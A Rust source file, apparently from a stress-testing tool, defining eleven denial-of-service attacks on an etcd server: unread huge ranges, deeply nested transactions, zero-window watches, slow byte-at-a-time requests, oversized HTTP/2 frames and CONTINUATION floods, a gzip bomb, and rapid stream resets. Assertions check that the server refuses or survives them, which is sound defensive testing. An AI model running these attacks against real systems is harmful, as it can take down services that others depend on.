//! The attacks: clients that ask for much, send slowly, read nothing, or send what they may not.

use super::EtcdTarget;
use super::connection::EtcdConnection;
use super::messages::{
    COMPACT, LEASE_GRANT, NO_END, PUT, RANGE, TXN, WATCH, compact, compare, delete_op, framed, get,
    lease, put, put_op, range, range_at, range_op, txn, txn_op, watch_from_the_first,
};
use crate::attack::{Entry, Outcome};
use crate::client::connect_tcp;
use crate::frames::{CONTINUATION, DATA, HEADERS, frame, grpc_header_block, preface};
use anyhow::{Result, ensure};
use std::io::Write;
use std::time::{Duration, Instant};

/// Connections of an attack, and calls over each.
const CONNECTIONS: usize = 8;
const CALLS: usize = 100;
/// Longest key.
const KEY_BYTES_MAX: usize = 4096;
/// Longest request by default.
const REQUEST_BYTES_MAX: usize = 1536 << 10;
const PACE: Duration = Duration::from_millis(20);

pub const ATTACKS: [Entry<EtcdTarget>; 11] = [
    ("etcd-ranges", "ranges over everything that are read", None, ranges),
    ("etcd-unread-ranges", "ranges over everything that nobody reads", None, unread_ranges),
    ("etcd-txns", "transactions of 10,000 operations, some nested 30 deep", None, txns),
    ("etcd-watches", "watches from the first revision that nobody reads", None, watches),
    ("etcd-leases", "as many leases as fit into the time", None, leases),
    ("etcd-slow", "requests that never end", None, slow),
    ("etcd-frames", "frames and headers that are too long", None, frames),
    ("etcd-gzip", "compressed messages", None, gzip),
    ("etcd-limits", "keys and values at their limits and above", None, limits),
    ("etcd-compaction", "compactions while the past is read", None, compaction),
    ("etcd-resets", "streams that are reset at once", None, resets),
];

/// Does something over many connections, each on a thread of its own, until the deadline. Returns
/// the sum of what `work` has counted, also before an error.
fn over_connections(
    target: &EtcdTarget,
    end: Instant,
    work: impl Fn(&mut EtcdConnection, &mut usize) -> Result<()> + Sync,
) -> usize {
    std::thread::scope(|scope| {
        let run = || {
            let mut sent = 0;
            while Instant::now() < end {
                // The server may refuse, or end a connection.
                let Ok(mut connection) = EtcdConnection::open(target.address) else { continue };
                while Instant::now() < end && work(&mut connection, &mut sent).is_ok() {}
            }
            sent
        };
        let threads: Vec<_> = (0..CONNECTIONS).map(|_| scope.spawn(run)).collect();
        threads.into_iter().map(|thread| thread.join().unwrap_or(0)).sum()
    })
}

/// Opens connections whose responses have no window, and starts calls over each until the deadline.
fn unread(
    target: &EtcdTarget,
    end: Instant,
    path: &str,
    messages: &[Vec<u8>],
    is_end: bool,
) -> Result<Outcome> {
    let mut connections = vec![];
    let mut sent = 0;
    while Instant::now() < end && connections.len() < CONNECTIONS {
        let mut connection = EtcdConnection::open_with_window(target.address, 0)?;
        for message in messages.iter().cycle().take(CALLS) {
            let stream = connection.begin(path, &[])?;
            connection.send_data(stream, &framed(message, false), is_end)?;
            sent += 1;
        }
        connections.push(connection);
    }
    crate::pause(end.saturating_duration_since(Instant::now()));
    Ok(Outcome::sent(sent))
}

fn ranges(target: &EtcdTarget, end: Instant) -> Result<Outcome> {
    let sent = over_connections(target, end, |connection, sent| {
        let all = connection.call(RANGE, &range(b"\0", NO_END, None))?;
        let sorted = connection.call(RANGE, &range(b"\0", NO_END, Some(4)))?;
        ensure!(all.len() == sorted.len(), "other keys when they are sorted");
        *sent += 2;
        Ok(())
    });
    ensure!(sent > 0, "no range was answered");
    Ok(Outcome::sent(sent))
}

fn unread_ranges(target: &EtcdTarget, end: Instant) -> Result<Outcome> {
    let everything = range(b"\0", NO_END, None);
    // One long value is below the bounds of ranges of many keys.
    unread(target, end, RANGE, &[everything, get(b"long/7")], true)
}

fn txns(target: &EtcdTarget, end: Instant) -> Result<Outcome> {
    let key = |number: usize| format!("txn/{number:05}").into_bytes();
    // Each put is compared with each delete, each range with each change before it.
    let changes = (0..5000).map(|number| put_op(&key(number), b"v"));
    let deletes = (5000..10_000).map(|number| delete_op(&key(number), &key(number + 1)));
    let wide = txn(&[], changes.chain(deletes), []);
    let inner = txn(&[], (0..300).map(|number| put_op(&key(number), b"v")), []);
    let deep = (0..29).fold(inner, |inner, level| {
        let ops = (0..300).map(|number| put_op(&key(level * 300 + number + 300), b"v"));
        txn(&[], ops.chain([txn_op(&inner)]), [])
    });
    let counting = txn(&[], (0..9000).map(|_| range_op(b"\0", NO_END)), []);
    let comparing: Vec<_> = (0..9000).map(|_| compare(b"short/", b"short0", b"value")).collect();
    let comparing = txn(&comparing, [], []);
    let all = [wide, deep, counting, comparing];
    let sent = over_connections(target, end, |connection, sent| {
        for message in &all {
            let stream = connection.start(TXN, message)?;
            // Some are over the limits of what a transaction reads.
            connection.response(stream)?;
            // The answer to the last of the four may take longer than a client waits.
            *sent += 1;
            if Instant::now() >= end {
                break;
            }
        }
        Ok(())
    });
    ensure!(sent > 0, "no transaction was answered");
    Ok(Outcome::sent(sent))
}

fn watches(target: &EtcdTarget, end: Instant) -> Result<Outcome> {
    let watch = framed(&watch_from_the_first(), false);
    // Several watches of one stream, in the form of a message that is framed already but for the
    // first one.
    let mut connections = vec![];
    let mut sent = 0;
    while Instant::now() < end && connections.len() < CONNECTIONS {
        let mut connection = EtcdConnection::open_with_window(target.address, 0)?;
        for _ in 0..CALLS {
            let stream = connection.begin(WATCH, &[])?;
            connection.send_data(stream, &watch.repeat(20), false)?;
            sent += 20;
        }
        connections.push(connection);
    }
    crate::pause(end.saturating_duration_since(Instant::now()));
    Ok(Outcome::sent(sent))
}

fn leases(target: &EtcdTarget, end: Instant) -> Result<Outcome> {
    let sent = over_connections(target, end, |connection, sent| {
        let streams: Vec<_> = (0..CALLS)
            .map(|_| connection.start(LEASE_GRANT, &lease(3600)))
            .collect::<Result<_>>()?;
        // The responses come in any order; that of the last stream says that most are there.
        streams.last().map_or(Ok(vec![]), |stream| connection.response(*stream))?;
        *sent += streams.len();
        Ok(())
    });
    ensure!(sent > 0, "no lease was granted");
    Ok(Outcome::sent(sent))
}

fn slow(target: &EtcdTarget, end: Instant) -> Result<Outcome> {
    let mut connections = vec![];
    let mut sent = 0;
    let message = framed(&put(b"slow", &[b'v'; 60_000]), false);
    while Instant::now() < end && connections.len() < 2 * CONNECTIONS {
        let mut connection = EtcdConnection::open(target.address)?;
        let mut streams = vec![];
        for _ in 0..5 * CALLS {
            let stream = connection.begin(PUT, &[])?;
            connection.send(&frame(DATA, 0, stream, &message[..100]))?;
            streams.push(stream);
            sent += 1;
        }
        connections.push((connection, streams));
    }
    // Now a byte at a time.
    let mut position = 100;
    while Instant::now() < end {
        for (connection, streams) in &mut connections {
            for stream in streams.iter().step_by(50) {
                let byte = &message[position..=position];
                // The server may have ended it.
                let _ = connection.send(&frame(DATA, 0, *stream, byte));
            }
        }
        position += 1;
        crate::pause(PACE);
    }
    Ok(Outcome::sent(sent))
}

fn frames(target: &EtcdTarget, end: Instant) -> Result<Outcome> {
    let mut sent = 0;
    let block = grpc_header_block(RANGE, &[]);
    while Instant::now() < end && sent < 20_000 {
        let Ok(mut stream) = connect_tcp(target.address) else { continue };
        let begin = [preface(65_535), frame(HEADERS, 0, 1, &block)].concat();
        let long = frame(DATA, 0, 1, &vec![0; 1 << 20]);
        let header = [&[0, 1, b'x', 127, 0x80, 0x80, 0x04][..], &vec![b'x'; 16_000]].concat();
        let _ = match sent % 2 {
            0 => stream.write_all(&[begin, long].concat()),
            _ => {
                (0..200).try_fold((), |(), _| stream.write_all(&frame(CONTINUATION, 0, 1, &header)))
            }
        };
        sent += 1;
    }
    Ok(Outcome::sent(sent))
}

fn gzip(target: &EtcdTarget, end: Instant) -> Result<Outcome> {
    // What would be a gigabyte if it were inflated: the server must not try.
    let bomb = framed(&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3].repeat(5000), true);
    let sent = over_connections(target, end, |connection, sent| {
        let stream = connection.begin(PUT, &[("grpc-encoding", "gzip")])?;
        connection.send_data(stream, &bomb, true)?;
        let response = connection.response(stream)?;
        ensure!(response.is_empty(), "a compressed message was taken");
        *sent += 1;
        Ok(())
    });
    ensure!(sent > 0, "nothing was refused");
    Ok(Outcome::sent(sent))
}

fn limits(target: &EtcdTarget, end: Instant) -> Result<Outcome> {
    let mut connection = EtcdConnection::open(target.address)?;
    let mut sent = 0;
    let accepts = |connection: &mut EtcdConnection, key: usize, value: usize| -> Result<bool> {
        let message = put(&vec![b'k'; key], &vec![b'v'; value]);
        let stream = connection.start(PUT, &message)?;
        Ok(!connection.response(stream)?.is_empty())
    };
    while Instant::now() < end && sent < CALLS {
        for (key, value, is_accepted) in [
            (KEY_BYTES_MAX, 1, true),
            (KEY_BYTES_MAX + 1, 1, false),
            (1, REQUEST_BYTES_MAX - 100, true),
            (1, REQUEST_BYTES_MAX + 1, false),
        ] {
            let answer = accepts(&mut connection, key, value)?;
            ensure!(answer == is_accepted, "a key of {key} and a value of {value} bytes");
            sent += 1;
        }
    }
    Ok(Outcome::sent(sent))
}

fn compaction(target: &EtcdTarget, end: Instant) -> Result<Outcome> {
    std::thread::scope(|scope| {
        let compacting = scope.spawn(|| -> Result<usize> {
            let mut connection = EtcdConnection::open(target.address)?;
            let mut sent = 0;
            while Instant::now() < end {
                for _ in 0..20 {
                    connection.put(b"changing", b"v")?;
                }
                // What is compacted already, or not there yet, is refused.
                let stream = connection.start(COMPACT, &compact(20 + 20 * sent as u64))?;
                connection.response(stream)?;
                sent += 1;
            }
            Ok(sent)
        });
        let read = over_connections(target, end, |connection, sent| {
            let stream = connection.start(RANGE, &range_at(b"\0", NO_END, 205))?;
            connection.response(stream)?;
            *sent += 1;
            Ok(())
        });
        let compacted = compacting.join().unwrap_or_else(|_| Ok(0))?;
        ensure!(compacted > 0, "nothing was compacted");
        Ok(Outcome { sent: read, note: format!("{compacted} compactions") })
    })
}

fn resets(target: &EtcdTarget, end: Instant) -> Result<Outcome> {
    let message = range(b"\0", NO_END, None);
    let sent = over_connections(target, end, |connection, sent| {
        for _ in 0..CALLS {
            let stream = connection.start(RANGE, &message)?;
            connection.reset(stream)?;
        }
        *sent += CALLS;
        Ok(())
    });
    Ok(Outcome::sent(sent))
}
